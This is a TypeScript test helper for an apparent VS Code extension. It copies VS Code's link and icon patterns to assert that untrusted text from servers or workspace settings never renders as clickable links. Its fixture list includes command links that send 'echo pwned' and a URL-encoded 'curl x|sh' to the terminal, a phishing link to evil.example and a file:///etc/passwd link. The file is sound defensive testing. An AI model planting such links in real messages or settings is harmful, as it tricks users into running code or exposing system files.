import * as assert from 'node:assert/strict';

/**
 * VS Code's link pattern for notifications and quick input texts (LINK_REGEX of
 * vs/base/common/linkedText.ts, title group included); `gi` as there, so `COMMAND:` counts too.
 */
export const vscodeLinkRegex = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^\)\s]+)(?: (["'])(.+?)(\3))?\)/gi;

/** The pattern: the part of VS Code's that decides whether there is a link at all. */
export const linkPattern = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^\)\s]+)/i;

/** What NotificationViewItem.parseNotificationMessage does before parsing links. */
export function asNotificationShowsIt(message: string): string {
  const limited = message.length > 1000 ? `${message.substring(0, 1000)}...` : message;
  return limited.replace(/(\r\n|\n|\r)/gm, ' ').trim();
}

/** The links VS Code would render in `text` shown as a notification. */
export function linksIn(text: string): string[] {
  return [...asNotificationShowsIt(text).matchAll(vscodeLinkRegex)].map((match) => match[0]);
}

export function assertNoLink(text: string, what: string): void {
  assert.doesNotMatch(text, linkPattern, `${what}: ${JSON.stringify(text)}`);
  assert.deepEqual(linksIn(text), [], `${what} as a notification shows it: ${JSON.stringify(text)}`);
}

/** Link syntax a server or a workspace's settings.json could send; each one is a link when shown raw. */
export const hostileTexts: readonly string[] = [
  '[Verify key](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22echo%20pwned%5Cn%22%7D)',
  'Your key must be re-verified. [Verify key](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cn%22%7D)',
  '[Fix this setting](command:gptImage.generate?%7B%22prompt%22%3A%22x%22%2C%22n%22%3A10%7D)',
  '[Docs](https://evil.example/phish)',
  '[passwd](file:///etc/passwd)',
  '[UPPER](COMMAND:workbench.action.openSettings)',
  '[Mixed](HtTpS://evil.example)',
  '[outer [inner](command:x)]',
  '[a]][b](command:x))',
  '[multi\nline label](command:x)',
  '[titled](command:x "Looks safe")',
  "[titled](https://evil.example 'Looks safe')",
  'before [one](command:a) between [two](https://b.example) after',
  '[zero\u200bwidth](command:x)',
  '\u202e[bidi](command:x)',
  '[tab\there](command:x)',
];

/**
 * VS Code's product-icon syntax (labelWithIconsRegex of vs/base/browser/ui/iconLabel/iconLabels.ts, with
 * ThemeIcon's name and modifier expressions): quick inputs, quick picks and notifications render
 * `$(key)` or `$(sync~spin)` as an icon. A preceding backslash only escapes it, so it still counts here.
 */
export const vscodeIconRegex = /\$\(([A-Za-z0-9-]+(?:~[A-Za-z]+)?)\)/g;

export function assertNoIcon(text: string, what: string): void {
  assert.deepEqual([...text.matchAll(vscodeIconRegex)].map((match) => match[0]), [], `${what}: ${JSON.stringify(text)}`);
}
